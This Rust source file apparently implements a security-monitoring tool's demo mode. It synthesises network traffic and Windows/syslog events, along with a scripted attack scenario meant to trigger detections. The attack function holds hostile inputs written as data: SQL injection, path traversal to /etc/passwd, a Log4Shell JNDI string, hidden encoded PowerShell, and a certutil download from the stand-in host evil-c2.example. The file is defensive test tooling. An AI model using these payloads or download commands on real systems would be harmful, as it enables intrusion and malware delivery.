//! `soc run --demo`: a built-in generator of realistic mixed traffic and logs, so a first-time
//! user sees flows, app-layer records, logs and (with the detection engines) alerts and
//! detections, without a capture or a log source.
//!
//! Traffic is synthesized as real Ethernet frames and goes through the real sensor (decode,
//! flows, HTTP/DNS/TLS parsers) on two segments, `ministry` (10.10.0.0/16) and `cpnet`
//! (10.20.0.0/16). Logs are real syslog lines and Windows events (evtx JSON shape) and go
//! through the real collector parsers. Every few seconds an attack scenario plays out: an
//! external host brute-forces SSH and probes the web portal (SQL injection, path traversal,
//! Log4Shell, a scanner user agent), and a CPNET workstation runs encoded PowerShell and
//! certutil, then resolves and contacts a command-and-control domain. External addresses
//! are from the documentation ranges (RFC 5737); nothing is sent on any network.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use soc_bus::Bus;
use soc_model::{Event, Timestamp};
use soc_sensor::synth::{self, ClientHello, DnsRr, Host, TcpSession};
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;
use tokio::sync::watch;

const DOMAINS: &[&str] = &[
    "moha.gov.vn",
    "chinhphu.vn",
    "dichvucong.gov.vn",
    "vanban.chinhphu.vn",
    "mail.moha.gov.vn",
    "update.microsoft.com",
    "www.google.com",
    "ocsp.digicert.com",
    "vnexpress.net",
    "thuvienphapluat.vn",
];
const C2_DOMAIN: &str = "evil-c2.example";
const PATHS: &[&str] =
    &["/", "/tin-tuc/thong-bao.html", "/van-ban?id=1024", "/lien-he", "/static/app.js", "/api/v1/ho-so?page=2"];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Microsoft-CryptoAPI/10.0",
];

struct Segment {
    name: &'static str,
    sensor: soc_sensor::Sensor,
    clients: Vec<Host>,
    dns: Host,
    web: Host,
    hostnames: Vec<String>,
}

struct Demo {
    rng: StdRng,
    segments: Vec<Segment>,
    port: u16,
    dns_id: u16,
    clock: i64,
    out: Vec<Event>,
    logs: Vec<Event>,
    dead: Vec<soc_model::DeadLetter>,
    record_no: u64,
}

fn v4(a: u8, b: u8, c: u8, d: u8) -> Host {
    Host::v4([a, b, c, d])
}

impl Demo {
    fn new(rules: Option<Arc<soc_sensor::reload::RuleSlot>>) -> Demo {
        let mk = |name: &'static str, net: u8, sensor_name: &str| {
            let opts = soc_sensor::SensorOptions {
                sensor_name: sensor_name.to_string(),
                segment: name.to_string(),
                // Short timeouts so a first-time user sees flow records within seconds (a
                // real sensor keeps Suricata's defaults).
                timeouts: soc_sensor::flow::FlowTimeouts {
                    tcp_new: 10,
                    tcp_established: 30,
                    tcp_closed: 2,
                    udp_new: 5,
                    udp_established: 10,
                    other_new: 5,
                    other_established: 10,
                    other_closed: 0,
                },
                ..Default::default()
            };
            let sensor = soc_sensor::Sensor::new(opts);
            Segment {
                name,
                sensor: match &rules {
                    Some(slot) => sensor.with_rule_slot(slot.clone()),
                    None => sensor,
                },
                clients: (0..12).map(|i| v4(10, net, 1, 20 + i)).collect(),
                dns: v4(10, net, 0, 53),
                web: v4(10, net, 0, 80),
                hostnames: (0..12)
                    .map(|i| format!("{}-ws{:02}", if net == 10 { "bnv" } else { "cpnet" }, i + 1))
                    .collect(),
            }
        };
        Demo {
            rng: StdRng::from_os_rng(),
            segments: vec![mk("ministry", 10, "demo-sensor-ministry"), mk("cpnet", 20, "demo-sensor-cpnet")],
            port: 40000,
            dns_id: 1,
            clock: Timestamp::now().unix_micros(),
            out: Vec::new(),
            logs: Vec::new(),
            dead: Vec::new(),
            record_no: 0,
        }
    }

    fn next_port(&mut self) -> u16 {
        self.port = if self.port >= 65000 { 40000 } else { self.port + 1 };
        self.port
    }

    /// Packet time: the wall clock, strictly increasing.
    fn now(&mut self) -> Timestamp {
        let wall = Timestamp::now().unix_micros();
        self.clock = if wall > self.clock { wall } else { self.clock + 1 };
        Timestamp::from_unix_micros(self.clock)
    }

    fn feed(&mut self, seg: usize, frames: Vec<Vec<u8>>) {
        for f in frames {
            let ts = self.now();
            let s = &mut self.segments[seg];
            s.sensor.process(ts, soc_sensor::decode::LinkType::Ethernet, &f, &mut self.out);
        }
    }

    fn dns(&mut self, seg: usize, client: Host, name: &'static str, answer: Ipv4Addr) {
        let id = self.dns_id;
        self.dns_id = self.dns_id.wrapping_add(1);
        let port = self.next_port();
        let server = self.segments[seg].dns;
        let q = synth::udp_frame(&client, port, &server, 53, &synth::dns_query(id, name, 1));
        let r = synth::udp_frame(
            &server,
            53,
            &client,
            port,
            &synth::dns_response(id, name, 1, 0, &[DnsRr::A(name, answer, 300)]),
        );
        self.feed(seg, vec![q, r]);
    }

    #[allow(clippy::too_many_arguments)] // one call site per scenario; a struct would only rename them
    fn http(
        &mut self,
        seg: usize,
        client: Host,
        server: Host,
        host: &str,
        path: &str,
        ua: &str,
        extra: &[(&str, &str)],
        status: u16,
    ) {
        let port = self.next_port();
        let mut s = TcpSession::new(client, port, server, 80);
        let mut frames = s.handshake();
        let mut headers = vec![("User-Agent", ua), ("Accept", "*/*")];
        headers.extend_from_slice(extra);
        frames.push(s.client_send(&synth::http_request("GET", host, path, &headers)));
        let body = if status == 200 { "<html><body>Bo Noi vu</body></html>" } else { "not found" };
        frames.push(s.server_send(&synth::http_response(
            status,
            if status == 200 { "OK" } else { "Not Found" },
            "text/html; charset=utf-8",
            body.as_bytes(),
        )));
        frames.extend(s.close());
        self.feed(seg, frames);
    }

    fn tls(&mut self, seg: usize, client: Host, server: Host, sni: &str) {
        let port = self.next_port();
        let mut s = TcpSession::new(client, port, server, 443);
        let mut frames = s.handshake();
        let hello = ClientHello { sni: Some(sni.to_string()), ..Default::default() };
        frames.push(s.client_send(&hello.to_record()));
        frames.push(s.server_send(&synth::tls_server_hello(0x0303, 0xc02f, &[], &[])));
        frames.extend(s.close());
        self.feed(seg, frames);
    }

    fn syslog(&mut self, seg: usize, host: &str, program: &str, pid: u32, msg: &str) {
        let now = self.now();
        let line = format!("<38>1 {} {host} {program} {pid} - - {msg}", now.to_rfc3339());
        self.log_line(seg, line.as_bytes());
    }

    fn log_line(&mut self, seg: usize, raw: &[u8]) {
        let ctx = soc_collector::parse::ParseContext::new("demo", None);
        self.record_no += 1;
        match soc_collector::parse::parse_line(raw, &ctx) {
            Ok(mut ev) => {
                soc_collector::sink::stamp(&mut ev, "demo-collector", Some(self.segments[seg].name));
                self.logs.push(ev);
            }
            Err(e) => self.dead.push(soc_model::DeadLetter::new("demo", e.to_string(), raw)),
        }
    }

    fn sysmon_process(&mut self, seg: usize, computer: &str, user: &str, image: &str, cmd: &str, parent: &str) {
        let now = self.now();
        let rec = self.record_no;
        let ev = serde_json::json!({"Event": {
            "System": {
                "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon", "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
                "EventID": 1, "Version": 5, "Level": 4, "Task": 1, "Opcode": 0, "Keywords": "0x8000000000000000",
                "TimeCreated": {"#attributes": {"SystemTime": now.to_rfc3339()}},
                "EventRecordID": rec, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": computer,
            },
            "EventData": {
                "RuleName": "-", "UtcTime": now.to_rfc3339(), "ProcessId": 4000 + (rec % 3000),
                "Image": image, "CommandLine": cmd, "CurrentDirectory": "C:\\Users\\Public\\",
                "User": user, "IntegrityLevel": "Medium", "ParentImage": parent,
                "ParentCommandLine": parent,
            }
        }});
        let raw = ev.to_string();
        self.log_line(seg, raw.as_bytes());
    }

    /// Ordinary activity: a few DNS lookups, web requests, TLS sessions and log lines.
    fn background(&mut self) {
        for seg in 0..self.segments.len() {
            let ci = self.rng.random_range(0..self.segments[seg].clients.len());
            let client = self.segments[seg].clients[ci];
            let host = self.segments[seg].hostnames[ci].clone();
            let name = DOMAINS[self.rng.random_range(0..DOMAINS.len())];
            let ip = Ipv4Addr::new(203, 0, 113, self.rng.random_range(10..250));
            self.dns(seg, client, name, ip);
            if self.rng.random_bool(0.7) {
                let server = self.segments[seg].web;
                let path = PATHS[self.rng.random_range(0..PATHS.len())];
                let ua = AGENTS[self.rng.random_range(0..AGENTS.len())];
                let status = if self.rng.random_bool(0.9) { 200 } else { 404 };
                self.http(seg, client, server, "portal.moha.gov.vn", path, ua, &[], status);
            }
            if self.rng.random_bool(0.6) {
                let remote = v4(198, 51, 100, self.rng.random_range(1..250));
                self.tls(seg, client, remote, name);
            }
            match self.rng.random_range(0..4) {
                0 => self.syslog(
                    seg,
                    "srv-web01",
                    "sshd",
                    2211,
                    "Accepted publickey for quantri from 10.10.1.5 port 51522 ssh2",
                ),
                1 => self.syslog(seg, "srv-web01", "CRON", 3100, "(root) CMD (/usr/local/bin/backup.sh)"),
                2 => self.sysmon_process(
                    seg,
                    &host,
                    "BNV\\nhanvien",
                    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                    "\"chrome.exe\" --type=renderer",
                    "C:\\Windows\\explorer.exe",
                ),
                _ => self.syslog(
                    seg,
                    "fw-edge01",
                    "kernel",
                    0,
                    "IN=eth0 OUT= SRC=198.51.100.23 DST=10.10.0.80 PROTO=TCP DPT=23 blocked",
                ),
            }
        }
    }

    /// The attack story (see the module docs).
    fn attack(&mut self) {
        let attacker = v4(203, 0, 113, 66);
        // SSH brute force against the ministry web server, seen in its auth log.
        for i in 0..6 {
            let msg = format!("Failed password for root from 203.0.113.66 port {} ssh2", 50000 + i);
            self.syslog(0, "srv-web01", "sshd", 2300 + i, &msg);
        }
        // Web probes against the portal.
        let web = self.segments[0].web;
        let sqlmap = "sqlmap/1.7.2#stable (https://sqlmap.org)";
        self.http(0, attacker, web, "portal.moha.gov.vn", "/van-ban?id=1'%20OR%20'1'='1", sqlmap, &[], 500);
        self.http(0, attacker, web, "portal.moha.gov.vn", "/tai-lieu?file=../../../../etc/passwd", AGENTS[1], &[], 404);
        self.http(
            0,
            attacker,
            web,
            "portal.moha.gov.vn",
            "/",
            "${jndi:ldap://203.0.113.66:1389/a}",
            &[("X-Api-Version", "${jndi:ldap://203.0.113.66:1389/a}")],
            200,
        );
        // A CPNET workstation: encoded PowerShell, certutil download, then the C2 domain.
        let ci = self.rng.random_range(0..self.segments[1].clients.len());
        let victim = self.segments[1].clients[ci];
        let host = self.segments[1].hostnames[ci].clone();
        self.sysmon_process(1, &host, "CPNET\\chuyenvien", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE");
        self.sysmon_process(
            1,
            &host,
            "CPNET\\chuyenvien",
            "C:\\Windows\\System32\\certutil.exe",
            "certutil.exe -urlcache -split -f http://evil-c2.example/payload.bin C:\\Users\\Public\\p.bin",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        );
        self.sysmon_process(
            1,
            &host,
            "CPNET\\chuyenvien",
            "C:\\Windows\\System32\\whoami.exe",
            "whoami /all",
            "C:\\Windows\\System32\\cmd.exe",
        );
        let c2 = v4(198, 51, 100, 77);
        self.dns(1, victim, C2_DOMAIN, Ipv4Addr::new(198, 51, 100, 77));
        self.tls(1, victim, c2, C2_DOMAIN);
    }

    fn take(&mut self) -> (Vec<Event>, Vec<soc_model::DeadLetter>) {
        let mut all = std::mem::take(&mut self.out);
        all.append(&mut self.logs);
        (all, std::mem::take(&mut self.dead))
    }

    fn flush(&mut self) {
        for s in &mut self.segments {
            s.sensor.flush_all(&mut self.out);
        }
    }
}

async fn publish(bus: &dyn Bus, events: Vec<Event>, dead: Vec<soc_model::DeadLetter>) -> anyhow::Result<()> {
    soc_bus::publish_events(bus, &events).await?;
    if !dead.is_empty() {
        let recs = dead.iter().map(|d| soc_bus::Record::new("demo", d.to_json())).collect();
        bus.publish(soc_model::Kind::DeadLetter, recs).await?;
    }
    Ok(())
}

/// Generates until `stop` turns true, then flushes the sensors' flows.
pub async fn run(
    bus: Arc<dyn Bus>,
    mut stop: watch::Receiver<bool>,
    rules: Option<Arc<soc_sensor::reload::RuleSlot>>,
) -> anyhow::Result<String> {
    let mut demo = Demo::new(rules);
    let mut tick = tokio::time::interval(Duration::from_millis(250));
    let mut n: u64 = 0;
    let mut published: u64 = 0;
    loop {
        tokio::select! {
            _ = tick.tick() => {}
            _ = stop.wait_for(|s| *s) => break,
        }
        demo.background();
        // The first attack after one second, then every 20 seconds.
        if n == 4 || (n > 4 && n.is_multiple_of(80)) {
            demo.attack();
        }
        n += 1;
        let (events, dead) = demo.take();
        published += (events.len() + dead.len()) as u64;
        publish(bus.as_ref(), events, dead).await?;
    }
    demo.flush();
    let (events, dead) = demo.take();
    published += (events.len() + dead.len()) as u64;
    publish(bus.as_ref(), events, dead).await?;
    Ok(format!("demo stopped after {n} ticks, {published} records"))
}
